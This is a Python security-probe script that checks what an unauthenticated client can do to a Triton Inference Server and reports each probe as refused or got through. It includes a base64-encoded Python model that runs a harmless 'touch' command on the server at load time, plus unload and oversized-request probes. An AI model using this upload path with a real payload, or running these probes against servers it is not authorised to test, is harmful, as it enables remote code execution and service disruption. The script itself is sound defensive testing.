"""What an unauthenticated client can do to a running Triton: a black-box probe, before and after.

    python scripts/security_probe.py --http 127.0.0.1:8000 --grpc 127.0.0.1:8001 --model seg_unet [--pid PID]

Tries, without any key: the repository index, uploading a python model through the load API
(HTTP and gRPC), unloading a served model (then loads it back if that worked), and an 8000x8000
RGB request (time to the answer, and the server's RSS before and after with --pid). Prints one
line per probe ("refused" is the safe answer) and exits 1 if any probe got through, 2 when there
is no server to probe. An upload counts as through unless the server refused it for want of
authorisation: a load that "failed" after the files were accepted has already run the uploaded
model.py (its import-time code).
Needs only tritonclient; it never changes a server that refuses it.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import time
import urllib.error
import urllib.request

import numpy as np
import tritonclient.grpc as grpcclient
from tritonclient.utils import InferenceServerException

EVIL = base64.b64encode(b"import os\nos.system('touch /tmp/pixelport-pwned')\n").decode()
EVIL_CONFIG = json.dumps({"name": "probe_evil", "backend": "python", "max_batch_size": 0,
                          "input": [{"name": "x", "data_type": "TYPE_FP32", "dims": [1]}],
                          "output": [{"name": "y", "data_type": "TYPE_FP32", "dims": [1]}]})


def http(base: str, path: str, body: dict) -> tuple[int, str]:
    request = urllib.request.Request(f"http://{base}{path}", data=json.dumps(body).encode(), method="POST",
                                     headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, response.read().decode()[:200]
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()[:200]


def refused_for_authorisation(text: str) -> bool:
    return any(word in text.lower() for word in ("restricted", "unauthori", "permission", "not allowed"))


def rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def memory(pid: int | None) -> tuple[float, float] | None:
    """(tritonserver's RSS, its children's: the python-backend stubs), in MB."""
    if not pid:
        return None
    children = []
    for task in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{task}/children") as fh:
            children += [int(c) for c in fh.read().split()]
    return rss_mb(pid), sum(rss_mb(c) for c in children)


def probe(args) -> list[tuple[str, bool, str]]:
    """(probe, got through?, detail) for each probe."""
    results = []
    code, text = http(args.http, "/v2/repository/index", {})
    results.append(("HTTP repository index", code < 400, f"HTTP {code} {text[:80]}"))
    code, text = http(args.http, "/v2/repository/models/probe_evil/load",
                      {"parameters": {"config": EVIL_CONFIG, "file:1/model.py": EVIL}})
    results.append(("HTTP upload + load of a python model", not refused_for_authorisation(text),
                    f"HTTP {code} {text[:80]}"))
    client = grpcclient.InferenceServerClient(args.grpc)
    try:
        try:
            client.load_model("probe_evil", config=EVIL_CONFIG, files={"file:1/model.py": base64.b64decode(EVIL)})
            results.append(("gRPC upload + load of a python model", True, "loaded"))
        except InferenceServerException as exc:
            results.append(("gRPC upload + load of a python model", not refused_for_authorisation(exc.message()),
                            exc.message()[:80]))
        try:
            client.unload_model(args.model)
            results.append((f"gRPC unload {args.model}", True, "unloaded (loading it back)"))
            client.load_model(args.model)
        except InferenceServerException as exc:
            results.append((f"gRPC unload {args.model}", False, exc.message()[:80]))
        big = np.zeros((1, 8000, 8000, 3), np.uint8)
        inp = grpcclient.InferInput(args.input, list(big.shape), "UINT8")
        inp.set_data_from_numpy(big)
        before = memory(args.pid)
        start = time.perf_counter()
        try:
            client.infer(args.model, [inp], client_timeout=300)
            took, through, why = time.perf_counter() - start, True, "answered"
        except InferenceServerException as exc:
            took, through, why = time.perf_counter() - start, False, f"{exc.status()}: {exc.message()[:80]}"
        after = memory(args.pid)
        rss = "" if before is None else (
            f"; RSS: server {before[0]:.0f} -> {after[0]:.0f} MB ({(after[0] / before[0] - 1) * 100:+.1f} %), "
            f"stubs {before[1]:.0f} -> {after[1]:.0f} MB")
        results.append(("8000x8000 request", through, f"{why} in {took * 1000:.0f} ms{rss}"))
    finally:
        client.close()
    return results


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--http", required=True, help="Triton HTTP host:port")
    p.add_argument("--grpc", required=True, help="Triton gRPC host:port")
    p.add_argument("--model", required=True, help="a served model taking a uint8 NHWC image")
    p.add_argument("--input", default="image", help="its input tensor (default: %(default)s)")
    p.add_argument("--pid", type=int, help="tritonserver's pid, to report its RSS around the large request")
    args = p.parse_args()
    try:
        results = probe(args)
    except (OSError, InferenceServerException) as exc:  # URLError is an OSError
        print(f"error: cannot probe {args.http} / {args.grpc}: {exc}; is the server running?")
        return 2
    for what, through, detail in results:
        print(f"{'GOT THROUGH' if through else 'refused':12} {what:40} {detail}")
    return 1 if any(through for _, through, _ in results) else 0


if __name__ == "__main__":
    raise SystemExit(main())
